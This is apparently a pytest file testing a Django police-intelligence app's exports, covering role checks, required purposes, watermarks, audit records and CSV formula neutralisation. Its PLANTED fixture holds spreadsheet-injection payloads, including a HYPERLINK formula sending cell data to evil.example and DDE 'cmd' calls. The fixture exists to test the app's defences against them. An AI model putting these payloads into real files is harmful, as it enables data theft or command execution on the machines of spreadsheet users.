"""Exports of a run's groups, a group's members and a person's profile: only for roles allowed to
export, a purpose asked first, watermarked, spreadsheet formulas neutralised, recorded with the
file's SHA-256 and the ids it contained."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date

import pytest
from django.urls import reverse
from pypdf import PdfReader

from analytics import exports
from analytics.analysis import analysis_run_create, analysis_run_execute
from analytics.exports import FORMULA_TRIGGERS, MARKING, ExportFormat, ExportKind, neutralise_cell
from analytics.importing import bundle_import
from analytics.models import AnalysisRun, ImportBatch, NominalResult
from portal.accounts.roles import Role
from portal.audit.models import AccessAction, AccessEvent, AccessEventSubject

pytestmark = pytest.mark.django_db

PURPOSE = {
    "format": "csv",
    "purpose": "investigation",
    "justification": "Operation Larch: briefing the line's disruption team.",
    "recipient_agency": "",
    "recipient_person": "",
}

# Each trigger planted in a name, through the real import: what a spreadsheet would run.
PLANTED = {
    "N-INJ-1": ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+44 7700 900123"),
    "N-INJ-2": ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "N-INJ-3": ("\t=1+1", "\r=1+1"),
}


@pytest.fixture
def planted_run(tmp_path, personas):
    def quoted(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    nominals = "nominal_id,surname,forenames,date_of_birth,gender,local_authority,flags\n" + "".join(
        f"{nid},{quoted(surname)},{quoted(forenames)},1990-01-0{i},M,Birmingham,\n"
        for i, (nid, (forenames, surname)) in enumerate(PLANTED.items(), start=1)
    )
    files = {
        "nominals.csv": nominals,
        "records.csv": "record_id,source,recorded_at,offence_code,text\n"
        "R-INJ-1,IMS,2026-05-01,,Runner for a county line; deal line phone\n"
        "R-INJ-2,CRIMES,2026-05-02,092/01,County line drugs; cuckooed flat\n",
        "record_nominals.csv": "record_id,nominal_id,role\n"
        "R-INJ-1,N-INJ-1,SUSPECT\nR-INJ-1,N-INJ-2,SUSPECT\nR-INJ-2,N-INJ-2,SUSPECT\nR-INJ-2,N-INJ-3,SUSPECT\n",
    }
    directory = tmp_path / "planted"
    directory.mkdir()
    for name, text in files.items():
        (directory / name).write_text(text, encoding="utf-8", newline="")
    batch = bundle_import(batch=ImportBatch.objects.create(), path=directory)
    assert batch.status == ImportBatch.Status.SUCCEEDED, batch.errors
    run = analysis_run_execute(run=analysis_run_create(actor=personas.supervisor, reference_date=date(2026, 6, 30)))
    assert run.status == AnalysisRun.Status.SUCCEEDED, run.error
    return run


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_cell_starting_with_a_formula_character_gets_an_apostrophe(trigger):
    assert neutralise_cell(f"{trigger}1+1") == f"'{trigger}1+1"


def test_other_cells_are_left_as_they_are():
    assert [neutralise_cell(v) for v in ("Harbottle", "0.5", 3, None, "a=b", "O'Neil")] == [
        "Harbottle",
        "0.5",
        "3",
        "",
        "a=b",
        "O'Neil",
    ]


def test_members_csv_neutralises_every_planted_formula(client, personas, planted_run):
    group = NominalResult.objects.get(run=planted_run, nominal_id="N-INJ-1").group
    assert set(NominalResult.objects.filter(run=planted_run, group=group).values_list("nominal_id", flat=True)) == set(
        PLANTED
    ), "the planted people must share a group for this test"
    client.force_login(personas.supervisor)
    response = client.post(reverse("analytics:export_members", args=[planted_run.pk, group]), PURPOSE)
    assert response.status_code == 200, response.content[:500]
    rows = _rows(response.content)
    cells = {cell for row in rows[2:-1] for cell in row}
    for forenames, surname in PLANTED.values():
        assert "'" + forenames in cells and "'" + surname in cells
    # No cell of the body, whatever it holds, starts a formula.
    assert not [cell for row in rows[1:-1] for cell in row if cell.startswith(FORMULA_TRIGGERS)]


def test_csv_carries_the_watermark_first_and_last_and_the_trail_has_its_hash_and_ids(client, personas, completed_run):
    client.force_login(personas.analyst)
    group = completed_run.group_results.first().group
    body = {**PURPOSE, "recipient_agency": "Birmingham Children's Trust", "recipient_person": "A. Social Worker"}
    response = client.post(reverse("analytics:export_members", args=[completed_run.pk, group]), body)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    export_id = response["X-Export-Id"]
    rows = _rows(response.content)
    for line in (rows[0][0], rows[-1][0]):
        assert MARKING in line and "analyst" in line and export_id in line
    event = AccessEvent.objects.get(action=AccessAction.EXPORT, object_id=export_id)
    assert event.actor == personas.analyst
    assert event.detail["sha256"] == hashlib.sha256(response.content).hexdigest() == response["X-Content-SHA256"]
    assert event.detail["export_id"] == export_id
    assert event.purpose == "investigation" and "Operation Larch" in event.reason
    assert event.recipients == [{"agency": "Birmingham Children's Trust", "person": "A. Social Worker"}]
    members = set(NominalResult.objects.filter(run=completed_run, group=group).values_list("nominal_id", flat=True))
    assert members
    subjects = set(AccessEventSubject.objects.filter(event=event).values_list("subject_type", "subject_id"))
    assert {("analytics.nominal", m) for m in members} <= subjects
    assert {("analytics.nominalresult", f"{completed_run.pk}/{m}") for m in members} <= subjects
    assert {f"analytics.nominal:{m}" for m in members} <= set(event.detail["ids"])
    assert event.result_count == len(members)


def test_pdf_of_the_groups_is_watermarked_and_recorded(client, personas, completed_run):
    client.force_login(personas.analyst)
    response = client.post(reverse("analytics:export_groups", args=[completed_run.pk]), {**PURPOSE, "format": "pdf"})
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    export_id = response["X-Export-Id"]
    pages = PdfReader(io.BytesIO(response.content)).pages
    for page in pages:
        text = page.extract_text()
        assert MARKING in text and export_id in text and "analyst" in text
    event = AccessEvent.objects.get(action=AccessAction.EXPORT, object_id=export_id)
    assert event.detail["sha256"] == hashlib.sha256(response.content).hexdigest()
    groups = {f"{completed_run.pk}/{g}" for g in completed_run.group_results.values_list("group", flat=True)}
    assert {
        key for kind, key in event.subjects.values_list("subject_type", "subject_id") if kind == exports.GROUP
    } == groups


def test_every_page_of_a_long_pdf_carries_the_watermark(personas):
    content = exports._Content(
        title="Long",
        filename="long",
        header=("a", "b"),
        rows=[(f"row {i}", "x" * 40) for i in range(400)],
        shown=[],
        widths=(60, 120),
    )
    from django.utils import timezone

    mark = exports.watermark_text(user=personas.analyst, made_at=timezone.now(), export_id="0f0f-test-id")
    pages = PdfReader(io.BytesIO(exports._pdf(content, watermark=mark))).pages
    assert len(pages) > 3
    assert all("0f0f-test-id" in page.extract_text() and MARKING in page.extract_text() for page in pages)


def test_the_profile_export_holds_the_explanation(client, personas, completed_run):
    client.force_login(personas.supervisor)  # reviews the run: no purpose needed to open the profile
    response = client.post(reverse("analytics:export_profile", args=[completed_run.pk, "N-TEST-2"]), PURPOSE)
    assert response.status_code == 200
    rows = _rows(response.content)
    result = NominalResult.objects.get(run=completed_run, nominal_id="N-TEST-2")
    records = {rec["record_id"] for rec in result.explanation.get("records", [])}
    assert records and records <= {row[1] for row in rows if row and row[0] == "record behind d"}
    event = AccessEvent.objects.get(action=AccessAction.EXPORT, object_id=response["X-Export-Id"])
    assert ("analytics.nominalresult", f"{completed_run.pk}/N-TEST-2") in set(
        event.subjects.values_list("subject_type", "subject_id")
    )


def test_the_form_asks_for_a_purpose_and_an_incomplete_one_exports_nothing(client, personas, completed_run):
    client.force_login(personas.analyst)
    url = reverse("analytics:export_groups", args=[completed_run.pk])
    page = client.get(url)
    assert page.status_code == 200
    html = page.content.decode()
    assert 'name="purpose"' in html and 'name="justification"' in html and 'name="recipient_agency"' in html
    assert "cover-colleague" not in html  # not a reason for a disclosure
    for bad in (
        {**PURPOSE, "purpose": ""},
        {**PURPOSE, "purpose": "cover-colleague"},
        {**PURPOSE, "justification": "short"},
        {**PURPOSE, "format": "xlsx"},
        {**PURPOSE, "recipient_person": "Someone"},  # a person, but no agency
    ):
        response = client.post(url, bad)
        assert response.status_code == 400, bad
        assert response["Content-Type"].startswith("text/html")
    assert not AccessEvent.objects.filter(action=AccessAction.EXPORT).exists()


def test_outside_police_intelligence_the_export_does_not_exist(client, personas, completed_run):
    for persona in (personas.mash_birmingham, personas.officer, personas.auditor):
        client.force_login(persona)
        for url in (
            reverse("analytics:export_groups", args=[completed_run.pk]),
            reverse("analytics:export_profile", args=[completed_run.pk, "N-TEST-1"]),
        ):
            before = AccessEvent.objects.filter(action=AccessAction.REFUSED, actor=persona).count()
            assert client.get(url).status_code == 404
            assert client.post(url, PURPOSE).status_code == 404
            assert AccessEvent.objects.filter(action=AccessAction.REFUSED, actor=persona).count() == before + 2
    assert not AccessEvent.objects.filter(action=AccessAction.EXPORT).exists()


def test_a_police_role_not_allowed_to_export_gets_403(client, personas, completed_run, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_ROLES", frozenset({Role.INTELLIGENCE_SUPERVISOR}))
    client.force_login(personas.analyst)
    response = client.post(reverse("analytics:export_groups", args=[completed_run.pk]), PURPOSE)
    assert response.status_code == 403
    assert b"Harbottle" not in response.content
    refusal = AccessEvent.objects.filter(action=AccessAction.REFUSED, actor=personas.analyst).latest("id")
    assert refusal.reason == "role may not export"
    assert not AccessEvent.objects.filter(action=AccessAction.EXPORT).exists()


def test_an_unknown_group_or_person_is_404_and_an_unfinished_run_409(client, personas, completed_run):
    client.force_login(personas.supervisor)
    assert client.post(reverse("analytics:export_members", args=[completed_run.pk, 99999]), PURPOSE).status_code == 404
    assert (
        client.post(reverse("analytics:export_profile", args=[completed_run.pk, "N-NONE"]), PURPOSE).status_code == 404
    )
    assert client.post(reverse("analytics:export_groups", args=[999999]), PURPOSE).status_code == 404
    queued = analysis_run_create(actor=personas.supervisor, reference_date=date(2026, 6, 30))
    response = client.post(reverse("analytics:export_groups", args=[queued.pk]), PURPOSE)
    assert response.status_code == 409 and b"only a finished run has results" in response.content
    assert not AccessEvent.objects.filter(action=AccessAction.EXPORT).exists()


def test_a_profile_with_no_workflow_relationship_asks_why_first(client, personas, completed_run):
    client.force_login(personas.analyst)  # the supervisor started the run; nothing explains the analyst's access
    response = client.get(reverse("analytics:export_profile", args=[completed_run.pk, "N-TEST-1"]))
    assert response.status_code == 403
    assert b"Harbottle" not in response.content


def test_export_service_refuses_a_kind_it_does_not_know():
    with pytest.raises(exports.ValidationError) as error:
        exports.export_request_clean(
            kind="everything", format=ExportFormat.CSV, run_id=1, purpose="investigation", justification="x" * 20
        )
    assert "kind" in error.value.message_dict
    with pytest.raises(exports.ValidationError) as error:
        exports.export_request_clean(
            kind=ExportKind.MEMBERS, format=ExportFormat.PDF, run_id=1, purpose="investigation", justification="x" * 20
        )
    assert "group" in error.value.message_dict
